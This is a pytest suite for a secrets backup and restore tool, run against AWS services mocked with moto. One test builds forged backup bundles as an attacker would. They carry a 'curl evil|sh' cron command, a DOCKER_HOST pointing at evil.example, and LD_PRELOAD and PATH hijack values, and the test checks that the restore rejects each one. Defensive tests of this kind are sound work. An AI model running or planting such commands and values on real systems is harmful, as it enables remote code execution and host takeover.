"""Secrets and config off-site, sealed: a real round trip with moto's SSM, Secrets Manager
and S3 on loopback. The host program seals with the openssl program; the owner's side
opens with the recovery private key and writes the values back."""

from __future__ import annotations

import base64
import datetime
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ClientError

from leanstack import sealed
from leanstack.host.agent.seal import OAEP_OPTIONS, seal
from leanstack.host.agent.seal_job import seal_secrets
from leanstack.recovery_key import new_keypair
from support.agent import agent_script
from support.system import require_program
from tests.host.helpers import BUCKET_REGION, FAKE_CREDENTIALS, HOST_REGION, Moto

SEAL = agent_script("leanstack-seal-secrets")
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def keys() -> tuple[str, str]:
    require_program("openssl", "openssl")
    return new_keypair()


@pytest.fixture(scope="module")
def other_keys() -> tuple[str, str]:
    return new_keypair()


class Recording:
    """A boto3 session whose every request body and URL is kept, to show what left."""

    def __init__(self, moto: Moto) -> None:
        self.session = moto.session()
        self.endpoint = moto.endpoint
        self.sent: list[bytes] = []
        self.session.events.register("before-send", self._keep)

    def _keep(self, request: Any, **_: Any) -> None:
        body = request.body if isinstance(request.body, bytes) else str(request.body or "").encode()
        self.sent.append(request.url.encode() + b"\n" + str(dict(request.headers)).encode() + b"\n" + body)

    def client(self, service: str, region_name: str) -> Any:
        return self.session.client(service, region_name=region_name, endpoint_url=self.endpoint)  # type: ignore[call-overload]


@pytest.fixture()
def app_values(moto: Moto, stack_name: str) -> Iterator[dict[str, Any]]:
    session = moto.session()
    ssm = session.client("ssm", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    secrets = session.client("secretsmanager", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    parameters = {
        f"/leanstack/{stack_name}/app/FEATURE_FLAGS": ("StringList", "search,exports"),
        f"/leanstack/{stack_name}/app/STRIPE_KEY": ("SecureString", "sk_live_ünïcode-секрет"),
        f"/leanstack/{stack_name}/releases": ("String", json.dumps([{"tag": "v1", "result": "succeeded"}])),
    }
    for name, (kind, value) in parameters.items():
        ssm.put_parameter(Name=name, Value=value, Type=kind)
    ssm.put_parameter(Name=f"/leanstack/other-{stack_name}/app/X", Value="not ours", Type="String")
    text_secret = f"leanstack/{stack_name}/mail"
    binary_secret = f"leanstack/{stack_name}/signing-key"
    arns = [
        secrets.create_secret(Name=text_secret, SecretString=json.dumps({"user": "mailer", "password": "p@ss"}))["ARN"],
        secrets.create_secret(Name=binary_secret, SecretBinary=bytes(range(256)))["ARN"],
    ]
    yield {
        "arns": arns,
        "parameters": parameters,
        "secrets": {text_secret: json.dumps({"user": "mailer", "password": "p@ss"}), binary_secret: bytes(range(256))},
    }


def host_env(moto: Moto, bucket: str, stack_name: str, public_key: str, secret_ids: str) -> dict[str, str]:
    return {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": "/nonexistent",
        **FAKE_CREDENTIALS,
        "AWS_ENDPOINT_URL": moto.endpoint,
        "AWS_REGION": HOST_REGION,
        "STACK": stack_name,
        "RECOVERY_PUBLIC_KEY": public_key,
        "BACKUP_BUCKET": bucket,
        "BACKUP_BUCKET_REGION": BUCKET_REGION,
        "SECRET_IDS": secret_ids,
    }


def run_seal(env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(SEAL)], env=env, capture_output=True, text=True, timeout=60, check=False)


def stack_repo(root: Path, stack_name: str, secret_arns: Any = ()) -> Path:
    """A checkout of this test's own with stacks/Pulumi.<stack>.yaml naming the app's secrets."""
    secrets = {f"SECRET_{index}": arn for index, arn in enumerate(secret_arns)}
    (root / "stacks").mkdir(parents=True, exist_ok=True)
    config = {"config": {"aws:region": HOST_REGION, "leanstack:app": {"port": 3000, "secrets": secrets}}}
    (root / "stacks" / f"Pulumi.{stack_name}.yaml").write_text(json.dumps(config))
    return root


def restore_args(bucket: str, stack_name: str, key_file: Path, *extra: str) -> list[str]:
    return [
        "restore",
        stack_name,
        "--from-backup",
        "--bucket",
        bucket,
        "--bucket-region",
        BUCKET_REGION,
        "--region",
        HOST_REGION,
        "--key-file",
        str(key_file),
        *extra,
    ]


def test_round_trip_restores_every_value_and_the_private_key_never_leaves(
    moto: Moto,
    bucket: str,
    stack_name: str,
    keys: tuple[str, str],
    app_values: dict[str, Any],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    private_pem, public_key = keys
    secret_ids = ",".join(app_values["secrets"])
    sealed_run = run_seal(host_env(moto, bucket, stack_name, public_key, secret_ids))
    assert sealed_run.returncode == 0, sealed_run.stderr
    assert "sealed 3 parameters and 2 secrets" in sealed_run.stdout

    s3 = moto.client_s3()
    (listed,) = s3.list_objects_v2(Bucket=bucket, Prefix=f"sealed-secrets/{stack_name}/")["Contents"]
    body = s3.get_object(Bucket=bucket, Key=listed["Key"])["Body"].read()
    for name, (_, value) in app_values["parameters"].items():
        assert value.encode() not in body and name.encode() not in body
    assert b"p@ss" not in body and b"mailer" not in body

    # The disaster: the parameters are gone and the secrets are gone or wrong.
    session = moto.session()
    ssm = session.client("ssm", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    secrets = session.client("secretsmanager", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    ssm.delete_parameters(Names=list(app_values["parameters"]))
    text_secret, binary_secret = app_values["secrets"]
    secrets.put_secret_value(SecretId=text_secret, SecretString="overwritten")
    secrets.delete_secret(SecretId=binary_secret, ForceDeleteWithoutRecovery=True)

    key_file = tmp_path / "recovery.pem"
    key_file.write_text(private_pem)
    recording = Recording(moto)
    repo = stack_repo(tmp_path, stack_name, app_values["arns"])
    assert sealed.main(restore_args(bucket, stack_name, key_file, "--yes"), session=recording, repo=repo) == 0
    out = capsys.readouterr().out
    assert "restored 4 values" in out
    # The release history is the Pulumi program's (and deploy's): the bundle carries it, the restore leaves it.
    releases = f"/leanstack/{stack_name}/releases"
    assert f"left out  {releases}: the stack's Pulumi program writes it" in out
    assert not ssm.get_parameters(Names=[releases])["Parameters"]
    # It names the release the stack last ran: the image a recovery stack rebuilds.
    assert f"{stack_name} last ran release v1 " in out

    for name, (kind, value) in app_values["parameters"].items():
        if name == releases:
            continue
        got = ssm.get_parameter(Name=name, WithDecryption=True)["Parameter"]
        assert (got["Type"], got["Value"]) == (kind, value)
    assert secrets.get_secret_value(SecretId=text_secret)["SecretString"] == app_values["secrets"][text_secret]
    assert secrets.get_secret_value(SecretId=binary_secret)["SecretBinary"] == app_values["secrets"][binary_secret]
    assert ssm.get_parameter(Name=f"/leanstack/other-{stack_name}/app/X")["Parameter"]["Value"] == "not ours"

    # Nothing sent, and nothing stored anywhere in moto, carries the private key.
    private_lines = [line.encode() for line in private_pem.splitlines() if not line.startswith("-----")]
    assert len(recording.sent) >= 7
    for request in recording.sent:
        assert not any(line in request for line in private_lines)
    stored = [
        s3.get_object(Bucket=bucket, Key=item["Key"])["Body"].read()
        for item in s3.list_objects_v2(Bucket=bucket).get("Contents", [])
    ]
    for page in ssm.get_paginator("get_parameters_by_path").paginate(Path="/", Recursive=True, WithDecryption=True):
        stored.extend(parameter["Value"].encode() for parameter in page["Parameters"])
    for listed_secret in secrets.list_secrets()["SecretList"]:
        value = secrets.get_secret_value(SecretId=listed_secret["ARN"])
        stored.append(value.get("SecretString", "").encode() + value.get("SecretBinary", b""))
    joined = b"\n".join(stored)
    assert not any(line in joined for line in private_lines)
    assert private_lines[1] not in joined.replace(b"\n", b"")


def test_a_wrong_key_fails_in_one_line_and_writes_nothing(
    moto: Moto,
    bucket: str,
    stack_name: str,
    keys: tuple[str, str],
    other_keys: tuple[str, str],
    app_values: dict[str, Any],
    tmp_path: Path,
) -> None:
    assert run_seal(host_env(moto, bucket, stack_name, keys[1], "")).returncode == 0
    ssm = moto.session().client("ssm", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    name = next(iter(app_values["parameters"]))
    ssm.delete_parameter(Name=name)
    key_file = tmp_path / "other.pem"
    key_file.write_text(other_keys[0])
    done = subprocess.run(
        [sys.executable, "-m", "leanstack", "secrets", *restore_args(bucket, stack_name, key_file)],
        env={**host_env(moto, bucket, stack_name, "", ""), "PYTHONPATH": str(ROOT)},
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1
    assert "is sealed to recovery key" in done.stderr and "the key given is" in done.stderr
    assert not ssm.get_parameters(Names=[name])["Parameters"]


def test_dry_run_lists_names_only(
    moto: Moto,
    bucket: str,
    stack_name: str,
    keys: tuple[str, str],
    app_values: dict[str, Any],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    secret_ids = ",".join(app_values["secrets"])
    assert run_seal(host_env(moto, bucket, stack_name, keys[1], secret_ids)).returncode == 0
    ssm = moto.session().client("ssm", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    ssm.delete_parameters(Names=list(app_values["parameters"]))
    key_file = tmp_path / "recovery.pem"
    key_file.write_text(keys[0])
    repo = stack_repo(tmp_path, stack_name, app_values["arns"])
    args = restore_args(bucket, stack_name, key_file, "--dry-run")
    assert sealed.main(args, session=Recording(moto), repo=repo) == 0
    out = capsys.readouterr().out
    for name in [*app_values["parameters"], *app_values["secrets"]]:
        assert name in out
    assert "sk_live" not in out and "p@ss" not in out
    assert "dry run: nothing written" in out
    assert not ssm.get_parameters(Names=list(app_values["parameters"]))["Parameters"]


def test_bundles_are_write_once_and_the_newest_or_a_stamp_is_chosen(
    moto: Moto, bucket: str, stack_name: str, keys: tuple[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    env = host_env(moto, bucket, stack_name, keys[1], "")
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    first = datetime.datetime(2026, 11, 30, 3, 0, tzinfo=datetime.UTC)
    seal_secrets(env, first)
    seal_secrets(env, first + datetime.timedelta(days=1))
    with pytest.raises(ClientError, match="PreconditionFailed"):
        seal_secrets(env, first)
    keys_found = sealed.bundle_keys(moto.client_s3(), bucket, "sealed-secrets", stack_name)
    assert [key.rsplit("/", 1)[1] for key in keys_found] == ["20261130T030000Z.json", "20261201T030000Z.json"]
    assert sealed.choose_bundle(keys_found, stack_name, None).endswith("20261201T030000Z.json")
    assert sealed.choose_bundle(keys_found, stack_name, "20261130T030000Z").endswith("20261130T030000Z.json")
    with pytest.raises(sealed.SealedError, match="--stamp 20261129T030000Z: no sealed bundle"):
        sealed.choose_bundle(keys_found, stack_name, "20261129T030000Z")


def test_a_damaged_bundle_is_refused(keys: tuple[str, str]) -> None:
    key = sealed.load_private_key(keys[0].encode())
    bundle = seal(b'{"stack": "s"}', keys[1], "s", "2026-12-01T00:00:00Z")
    assert sealed.open_bundle(bundle, key) == {"stack": "s"}
    ciphertext = bytearray(base64.b64decode(bundle["ciphertext"]))
    ciphertext[-1] ^= 1
    altered = {**bundle, "ciphertext": base64.b64encode(bytes(ciphertext)).decode()}
    with pytest.raises(sealed.SealedError, match="its MAC does not match"):
        sealed.open_bundle(altered, key)
    with pytest.raises(sealed.SealedError, match="its MAC does not match"):
        sealed.open_bundle({**bundle, "stack": "other"}, key)


def test_the_host_refuses_an_rds_managed_secret_and_a_weak_key(
    moto: Moto, bucket: str, stack_name: str, keys: tuple[str, str]
) -> None:
    secrets = moto.session().client("secretsmanager", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    managed = f"rds!db-{stack_name}"
    secrets.create_secret(Name=managed, SecretString="{}")
    done = run_seal(host_env(moto, bucket, stack_name, keys[1], managed))
    assert done.returncode == 2
    assert done.stderr.strip() == (
        f"leanstack-seal-secrets: SECRET_IDS: {managed} is managed by RDS, which recreates it: leave it out"
    )
    weak = subprocess.run(
        "openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:1024 2>/dev/null | openssl pkey -pubout -outform DER",
        shell=True,
        capture_output=True,
        check=True,
    ).stdout
    done = run_seal(host_env(moto, bucket, stack_name, base64.b64encode(weak).decode(), ""))
    assert done.returncode == 2
    assert done.stderr.strip() == "leanstack-seal-secrets: RECOVERY_PUBLIC_KEY must be an RSA key of at least 3072 bits"
    assert not moto.client_s3().list_objects_v2(Bucket=bucket, Prefix=f"sealed-secrets/{stack_name}/").get("Contents")


def test_the_sealed_format_opens_with_the_openssl_program_too(keys: tuple[str, str], tmp_path: Path) -> None:
    """The format is plain openssl: an owner without Python can open it by hand."""
    openssl = require_program("openssl", "openssl")
    bundle = seal(b"plain text", keys[1], "s", "2026-12-01T00:00:00Z")
    (tmp_path / "key.pem").write_text(keys[0])
    options = [argument for option in OAEP_OPTIONS for argument in ("-pkeyopt", option)]
    secret = subprocess.run(
        [openssl, "pkeyutl", "-decrypt", "-inkey", str(tmp_path / "key.pem"), *options],
        input=base64.b64decode(bundle["wrapped_key"]),
        capture_output=True,
        check=True,
    ).stdout
    (tmp_path / "password").write_text(secret[:32].hex())
    password = f"file:{tmp_path / 'password'}"
    plain = subprocess.run(
        [openssl, "enc", "-d", "-aes-256-cbc", "-pbkdf2", "-iter", "10000", "-md", "sha256", "-pass", password],
        input=base64.b64decode(bundle["ciphertext"]),
        capture_output=True,
        check=True,
    ).stdout
    assert plain == b"plain text"


def test_restore_into_the_recovery_stack_moves_the_parameters_and_rehomes_every_reference(
    moto: Moto,
    bucket: str,
    stack_name: str,
    keys: tuple[str, str],
    app_values: dict[str, Any],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Region down: the recovery stack's host reads only /leanstack/<stack>-recovery/ in the backup
    region, so the old stack's sealed values are written there (`--into`), references inside them
    follow, and the secrets, created anew in that region, get their new ARNs in the recovery stack file."""
    private_pem, public_key = keys
    text_arn = app_values["arns"][0]
    settings = f"/leanstack/{stack_name}/app/SETTINGS"
    ssm_old = moto.session().client("ssm", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    ssm_old.put_parameter(
        Name=settings,
        Type="String",
        Value=json.dumps({"stripe": f"/leanstack/{stack_name}/app/STRIPE_KEY", "mail": text_arn}),
    )
    secret_ids = ",".join(app_values["secrets"])
    assert run_seal(host_env(moto, bucket, stack_name, public_key, secret_ids)).returncode == 0
    key_file = tmp_path / "recovery.pem"
    key_file.write_text(private_pem)
    recovery = f"{stack_name}-recovery"
    # What `recover init` writes: the secrets named in the recovery region, without the old ARNs' suffixes.
    repo = stack_repo(tmp_path, stack_name, app_values["arns"])
    partial = [f"arn:aws:secretsmanager:{BUCKET_REGION}:123456789012:secret:{name}" for name in app_values["secrets"]]
    args = restore_args(bucket, stack_name, key_file, "--into", recovery, "--yes")
    args[args.index("--region") + 1] = BUCKET_REGION
    # Without the recovery stack file (recover init), nothing is written.
    assert sealed.main(args, session=Recording(moto), repo=repo) == 2
    assert "no stacks/Pulumi." in capsys.readouterr().err
    missing = f"arn:aws:secretsmanager:{BUCKET_REGION}:123456789012:secret:never-sealed"
    stack_repo(tmp_path, recovery, [*partial, missing])
    assert sealed.main(args, session=Recording(moto), repo=repo) == 0
    out, err = capsys.readouterr()
    assert "restored 5 values" in out
    assert f"still names {missing}: not in the bundle" in err

    ssm = moto.session().client("ssm", region_name=BUCKET_REGION, endpoint_url=moto.endpoint)
    secrets = moto.session().client("secretsmanager", region_name=BUCKET_REGION, endpoint_url=moto.endpoint)
    new_arns = {name: secrets.describe_secret(SecretId=name)["ARN"] for name in app_values["secrets"]}
    assert all(f":{BUCKET_REGION}:" in arn for arn in new_arns.values())
    mail = f"leanstack/{stack_name}/mail"
    assert secrets.get_secret_value(SecretId=new_arns[mail])["SecretString"] == app_values["secrets"][mail]
    for name, (kind, value) in app_values["parameters"].items():
        moved_name = name.replace(f"/leanstack/{stack_name}/", f"/leanstack/{recovery}/", 1)
        if name.endswith("/releases"):
            assert not ssm.get_parameters(Names=[moved_name])["Parameters"]
            continue
        got = ssm.get_parameter(Name=moved_name, WithDecryption=True)["Parameter"]
        assert (got["Type"], got["Value"]) == (kind, value)
    moved_settings = json.loads(ssm.get_parameter(Name=f"/leanstack/{recovery}/app/SETTINGS")["Parameter"]["Value"])
    assert moved_settings == {
        "stripe": f"/leanstack/{recovery}/app/STRIPE_KEY",
        "mail": new_arns[f"leanstack/{stack_name}/mail"],
    }
    recovery_file = json.loads((repo / "stacks" / f"Pulumi.{recovery}.yaml").read_text())
    assert sorted(recovery_file["config"]["leanstack:app"]["secrets"].values()) == sorted([*new_arns.values(), missing])
    # A name that is not a stack's is refused in one line, before anything is read.
    assert sealed.main(restore_args(bucket, stack_name, key_file, "--into", "a/b"), session=Recording(moto)) == 2
    assert capsys.readouterr().err.count("\n") == 1


def forge(public_key: str, stack: str, created: str, parameters: dict[str, str], secrets: dict[str, str]) -> bytes:
    """A bundle made as an attacker makes it: with the public key only (the host role's S3 write does the rest)."""
    document = {
        "stack": stack,
        "created": created,
        "parameter_path": f"/leanstack/{stack}/",
        "parameters": [{"name": n, "type": "String", "data_type": "text", "value": v} for n, v in parameters.items()],
        "secrets": [{"name": n, "string": v} for n, v in secrets.items()],
    }
    bundle = seal(json.dumps(document).encode(), public_key, stack, created)
    return json.dumps(bundle).encode()


def test_a_forged_bundle_writes_nothing_outside_its_stack(
    moto: Moto,
    bucket: str,
    keys: tuple[str, str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Issue 21, 1: a dev bundle stamped 20991231T235959Z, made with the public key alone, naming prod's app
    config, prod's STRIPE secret and a DOCKER_HOST: `secrets restore dev` must leave prod alone."""
    private_pem, public_key = keys
    session = moto.session()
    ssm = session.client("ssm", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    secrets = session.client("secretsmanager", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    prod_config = json.dumps({"env": {}, "jobs": {}})
    ssm.put_parameter(Name="/leanstack/prod/app/config", Value=prod_config, Type="String")
    prod_stripe = secrets.create_secret(Name="prod/STRIPE", SecretString="sk_live_real")["ARN"]
    dev_stripe = secrets.create_secret(Name="dev/STRIPE", SecretString="sk_test_real")["ARN"]
    ssm.put_parameter(Name="/leanstack/dev/app/FEATURES", Value="search", Type="String")
    repo = stack_repo(tmp_path, "dev", [dev_stripe])
    key_file = tmp_path / "recovery.pem"
    key_file.write_text(private_pem)
    s3 = moto.client_s3()
    # Dev's genuine bundle, sealed by its host yesterday.
    env = host_env(moto, bucket, "dev", public_key, "dev/STRIPE")
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    genuine = seal_secrets(env, datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=1))
    evil = {
        "/leanstack/prod/app/config": json.dumps(
            {"jobs": {"x": {"schedule": "* * * * *", "command": ["sh", "-c", "curl evil|sh"]}}}
        ),
        "/leanstack/dev/app/DOCKER_HOST": "tcp://evil.example:2375",
        "/leanstack/dev/app/config": "{}",
    }
    s3.put_object(
        Bucket=bucket,
        Key="sealed-secrets/dev/20991231T235959Z.json",
        Body=forge(public_key, "dev", "2099-12-31T23:59:59Z", evil, {"prod/STRIPE": "sk_live_evil"}),
    )

    def untouched() -> None:
        assert ssm.get_parameter(Name="/leanstack/prod/app/config")["Parameter"]["Value"] == prod_config
        assert secrets.get_secret_value(SecretId=prod_stripe)["SecretString"] == "sk_live_real"
        assert not ssm.get_parameters(Names=["/leanstack/dev/app/DOCKER_HOST"])["Parameters"]

    # The newest is the forged one: skipped as stamped in the future; dev's own is restored.
    assert sealed.main(restore_args(bucket, "dev", key_file, "--yes"), session=Recording(moto), repo=repo) == 0
    out, err = capsys.readouterr()
    assert "stamped in the future (20991231T235959Z)" in err
    assert genuine in out and "restored 2 values" in out
    untouched()

    # Named with --stamp, it is refused; so is the same forgery stamped now, and one renamed to a later stamp.
    args = restore_args(bucket, "dev", key_file, "--yes", "--stamp", "20991231T235959Z")
    assert sealed.main(args, session=Recording(moto), repo=repo) == 2
    assert "in the future" in capsys.readouterr().err
    now = datetime.datetime.now(datetime.UTC)
    created, stamp = now.strftime("%Y-%m-%dT%H:%M:%SZ"), now.strftime("%Y%m%dT%H%M%SZ")
    s3.put_object(
        Bucket=bucket, Key=f"sealed-secrets/dev/{stamp}.json", Body=forge(public_key, "dev", created, evil, {})
    )
    assert sealed.main(restore_args(bucket, "dev", key_file, "--yes"), session=Recording(moto), repo=repo) == 2
    assert "outside /leanstack/dev/ (/leanstack/prod/app/config)" in capsys.readouterr().err
    later = (now + datetime.timedelta(seconds=1)).strftime("%Y%m%dT%H%M%SZ")
    only_dev = {
        "/leanstack/dev/app/DOCKER_HOST": "tcp://evil.example:2375",
        "/leanstack/dev/app/env/LD_PRELOAD": "/tmp/evil.so",
        "/leanstack/dev/app/secret/PATH": "/tmp/evil",
    }
    s3.put_object(
        Bucket=bucket,
        Key=f"sealed-secrets/dev/{later}.json",
        Body=forge(public_key, "dev", "2026-01-01T00:00:00Z", only_dev, {}),
    )
    assert sealed.main(restore_args(bucket, "dev", key_file, "--yes"), session=Recording(moto), repo=repo) == 2
    assert f"stamped {later} but sealed at 2026-01-01T00:00:00Z" in capsys.readouterr().err
    untouched()

    # Within dev's own path, a forgery still cannot set a name the app config refuses, nor Pulumi's parameters,
    # nor a secret dev's stack file does not list.
    newest = now + datetime.timedelta(seconds=2)
    s3.put_object(
        Bucket=bucket,
        Key=f"sealed-secrets/dev/{newest.strftime('%Y%m%dT%H%M%SZ')}.json",
        Body=forge(
            public_key,
            "dev",
            newest.strftime("%Y-%m-%dT%H:%M:%SZ"),
            {**only_dev, "/leanstack/dev/app/config": "{}", "/leanstack/dev/app/FEATURES": "forged"},
            {"prod/STRIPE": "sk_live_evil"},
        ),
    )
    assert sealed.main(restore_args(bucket, "dev", key_file, "--yes"), session=Recording(moto), repo=repo) == 0
    out = capsys.readouterr().out
    assert "left out  /leanstack/dev/app/DOCKER_HOST: not an app variable name: DOCKER_* names are not allowed" in out
    assert "left out  /leanstack/dev/app/env/LD_PRELOAD: not an app variable name: LD_* names are not allowed" in out
    assert "left out  /leanstack/dev/app/secret/PATH: not an app variable name" in out
    assert "left out  /leanstack/dev/app/config: the stack's Pulumi program writes it" in out
    assert "left out  prod/STRIPE: not in app.secrets or app.registrySecretArn of stacks/Pulumi.dev.yaml" in out
    assert "restored 1 values" in out
    untouched()


def test_nothing_is_written_unless_confirmed_and_the_previous_versions_are_shown(
    moto: Moto,
    bucket: str,
    stack_name: str,
    keys: tuple[str, str],
    app_values: dict[str, Any],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert run_seal(host_env(moto, bucket, stack_name, keys[1], ",".join(app_values["secrets"]))).returncode == 0
    ssm = moto.session().client("ssm", region_name=HOST_REGION, endpoint_url=moto.endpoint)
    flags = f"/leanstack/{stack_name}/app/FEATURE_FLAGS"
    ssm.put_parameter(Name=flags, Value="changed since", Type="StringList", Overwrite=True)
    ssm.delete_parameter(Name=f"/leanstack/{stack_name}/app/STRIPE_KEY")
    key_file = tmp_path / "recovery.pem"
    key_file.write_text(keys[0])
    repo = stack_repo(tmp_path, stack_name, app_values["arns"])
    monkeypatch.setattr("sys.stdin", io.StringIO("n\n"))
    assert sealed.main(restore_args(bucket, stack_name, key_file), session=Recording(moto), repo=repo) == 1
    out, err = capsys.readouterr()
    assert f"ssm  {flags}  (replaces: version 2)" in out
    assert f"ssm  /leanstack/{stack_name}/app/STRIPE_KEY  (replaces: new)" in out
    assert "Write these 4 values? [y/N]" in err and "nothing written" in out
    assert ssm.get_parameter(Name=flags)["Parameter"]["Value"] == "changed since"
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
    assert sealed.main(restore_args(bucket, stack_name, key_file), session=Recording(moto), repo=repo) == 0
    assert ssm.get_parameter(Name=flags)["Parameter"]["Value"] == "search,exports"


def test_an_encrypted_recovery_key_opens_with_its_passphrase(
    moto: Moto,
    bucket: str,
    stack_name: str,
    keys: tuple[str, str],
    app_values: dict[str, Any],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Issue 21, 8: the key need not be on disk in clear; `openssl pkey -aes256` (the sheet's step) encrypts it."""
    openssl = require_program("openssl", "openssl")
    assert run_seal(host_env(moto, bucket, stack_name, keys[1], ",".join(app_values["secrets"]))).returncode == 0
    key_file = tmp_path / "recovery.pem"
    subprocess.run(
        [openssl, "pkey", "-aes256", "-passout", "env:PASS", "-out", str(key_file)],
        input=keys[0].encode(),
        env={**os.environ, "PASS": "correct horse"},
        check=True,
    )
    assert (
        b"ENCRYPTED PRIVATE KEY" in key_file.read_bytes()
        and keys[0].splitlines()[1].encode() not in key_file.read_bytes()
    )
    repo = stack_repo(tmp_path, stack_name, app_values["arns"])
    monkeypatch.setenv(sealed.PASSPHRASE_ENV, "wrong")
    assert sealed.main(restore_args(bucket, stack_name, key_file, "--yes"), session=Recording(moto), repo=repo) == 2
    assert capsys.readouterr().err == (
        "leanstack: secrets restore: the passphrase does not open the key file (an encrypted PEM private key)\n"
    )
    monkeypatch.delenv(sealed.PASSPHRASE_ENV)
    monkeypatch.setattr("getpass.getpass", lambda prompt: "correct horse")
    assert sealed.main(restore_args(bucket, stack_name, key_file, "--yes"), session=Recording(moto), repo=repo) == 0
    assert "restored 4 values" in capsys.readouterr().out
